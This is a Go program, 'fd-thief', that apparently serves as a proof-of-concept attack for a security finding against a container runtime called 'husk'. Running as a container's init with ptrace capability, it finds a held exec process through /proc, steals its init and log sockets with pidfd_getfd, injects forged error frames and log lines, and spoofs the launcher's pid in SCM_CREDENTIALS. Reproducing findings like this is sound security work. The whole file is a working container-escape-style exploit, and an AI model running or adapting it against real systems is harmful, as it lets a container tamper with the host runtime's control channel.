// Command fd-thief is issue 33 finding 4's attack, run as a container's
// pid 1 with CAP_SYS_PTRACE: once the file -held exists (a seccomp
// listener holds an exec's process in a syscall), it finds that process
// by its environment (_HUSK_INITPIPE), takes its init socket and log
// socket with pidfd_getfd, writes a forged ERROR frame on the first and
// a forged log line on the second, then an ERROR frame claiming the
// launcher's pid (read from -held: CAP_SYS_ADMIN lets a process claim any
// pid of its pid namespace), closes them and creates -release. It prints what
// it did, then sleeps until killed.
//
//	fd-thief -held /held -release /release -text FORGED
package main

import (
	"encoding/binary"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const syncError = 4 // HUSK_SYNC_ERROR (libcontainer/bootstrap/bootstrap.h)

func main() {
	held := flag.String("held", "/held", "act once this file exists")
	release := flag.String("release", "/release", "create this file when done")
	text := flag.String("text", "FORGED", "the forged text")
	flag.Parse()
	for {
		if _, err := os.Stat(*held); err == nil {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if err := steal(*text, *held); err != nil {
		fmt.Println("fd-thief:", err)
	}
	os.WriteFile(*release, nil, 0o644)
	for {
		time.Sleep(time.Hour)
	}
}

// steal finds the held exec's process and forges on its sockets. It
// keeps the copies open, as a process that wants husk exec to hang would.
func steal(text, held string) error {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return err
	}
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		if err != nil {
			continue
		}
		initFd, logFd := envFd(env, "_HUSK_INITPIPE"), envFd(env, "_HUSK_LOGPIPE")
		if initFd < 0 || logFd < 0 {
			continue
		}
		pidfd, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			return fmt.Errorf("pidfd_open %d: %w", pid, err)
		}
		initSock, err := unix.PidfdGetfd(pidfd, initFd, 0)
		if err != nil {
			return fmt.Errorf("pidfd_getfd %d fd %d: %w", pid, initFd, err)
		}
		logSock, err := unix.PidfdGetfd(pidfd, logFd, 0)
		if err != nil {
			return fmt.Errorf("pidfd_getfd %d fd %d: %w", pid, logFd, err)
		}
		line := fmt.Sprintf("{\"level\":\"warning\",\"msg\":\"%s log line\"}\n", text)
		if _, err := unix.Write(logSock, []byte(line)); err != nil {
			return fmt.Errorf("write the log socket: %w", err)
		}
		frame := make([]byte, 8, 8+len(text)+16)
		msg := text + " error frame"
		binary.NativeEndian.PutUint32(frame[0:4], syncError)
		binary.NativeEndian.PutUint32(frame[4:8], uint32(len(msg)))
		frame = append(frame, msg...)
		if _, err := unix.Write(initSock, frame); err != nil {
			return fmt.Errorf("write the init socket: %w", err)
		}
		claim(initSock, held, text)
		fmt.Printf("forged on pid %d's fds %d and %d, kept open\n", pid, initFd, logFd)
		return nil
	}
	return fmt.Errorf("no process with husk's sockets")
}

// claim sends a forged ERROR frame claiming, in SCM_CREDENTIALS, the pid
// written in the file held (the exec's launcher, in the runtime's pid
// namespace), as a process with CAP_SYS_ADMIN may claim any pid of its
// own pid namespace. It prints the kernel's answer.
func claim(sock int, held, text string) {
	b, _ := os.ReadFile(held)
	pid, err := strconv.Atoi(strings.TrimSpace(string(b)))
	if err != nil {
		fmt.Printf("claim: no launcher pid in %s\n", held)
		return
	}
	msg := text + " claimed frame"
	frame := make([]byte, 8, 8+len(msg))
	binary.NativeEndian.PutUint32(frame[0:4], syncError)
	binary.NativeEndian.PutUint32(frame[4:8], uint32(len(msg)))
	frame = append(frame, msg...)
	cred := unix.UnixCredentials(&unix.Ucred{Pid: int32(pid), Uid: 0, Gid: 0})
	if err := unix.Sendmsg(sock, frame, cred, nil, 0); err != nil {
		fmt.Printf("claim of pid %d refused: %v\n", pid, err)
		return
	}
	fmt.Printf("claim of pid %d sent\n", pid)
}

// envFd is the fd number of variable name in the NUL-separated env, -1
// without it.
func envFd(env []byte, name string) int {
	for _, kv := range strings.Split(string(env), "\x00") {
		if v, ok := strings.CutPrefix(kv, name+"="); ok {
			if n, err := strconv.Atoi(v); err == nil {
				return n
			}
		}
	}
	return -1
}
